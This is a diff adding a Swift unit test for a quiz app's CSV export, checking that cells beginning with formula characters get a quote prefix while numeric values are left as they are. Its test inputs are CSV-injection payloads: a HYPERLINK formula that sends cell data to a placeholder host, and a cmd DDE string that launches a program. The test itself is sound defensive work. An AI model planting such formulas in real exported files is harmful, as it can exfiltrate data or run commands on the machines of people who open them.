@@ -47,6 +47,24 @@ import Testing
         #expect(AnswerExport.csv([row]) == AnswerExport.columns.joined(separator: ",") + "\r\nA@1,1,1,Q,P,,x,,,5,0,0,true\r\n")
     }
 
+    /// OWASP "CSV Injection": a name, team, answer or question that starts with `=`, `+`, `-`, `@`,
+    /// tab or CR is prefixed with `'` so a spreadsheet shows it instead of running it; numbers the
+    /// export writes (a lost wager's negative points) and a typed number answer stay numbers.
+    @Test func csvDefusesFormulasInTextButKeepsNumbers() {
+        let row = AnswerRow(game: "A@1", round: 1, question: 2, questionText: "+1+1 is?", player: "=HYPERLINK(\"http://x/?\"&A1,\"win\")",
+                            team: "@SUM(A1:A9)", answer: "-2+3+cmd|' /C calc'!A0", correct: false, outcome: "wrong",
+                            responseMs: 1200, points: -250, runningTotal: -250)
+        #expect(AnswerExport.csv([row]) == AnswerExport.columns.joined(separator: ",")
+            + "\r\nA@1,1,2,'+1+1 is?,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"win\"\")\",'@SUM(A1:A9),'-2+3+cmd|' /C calc'!A0,false,wrong,1200,-250,-250,true\r\n")
+        for text in ["=1", "+1x", "-x", "@x", "\tx", "\rx", "\r\nx"] {
+            #expect(AnswerExport.csvText(text) == "'" + text, "\(text.debugDescription)")
+        }
+        for text in ["-40", "+5", "-0.5", "Ada", "a=b", " =1", ""] {
+            #expect(AnswerExport.csvText(text) == text, "\(text.debugDescription)")
+        }
+        #expect(AnswerExport.json([row]).contains(#""player":"=HYPERLINK"#), "JSON is not a spreadsheet: it keeps the text as it is")
+    }
+
     @Test func jsonStringsEscapeControlCharacters() {
         #expect(AnswerExport.string("a\"b\\c\nd\u{1}é") == #""a\"b\\c\nd\u0001é""#)
         #expect(AnswerExport.json([]) == "[]\n")
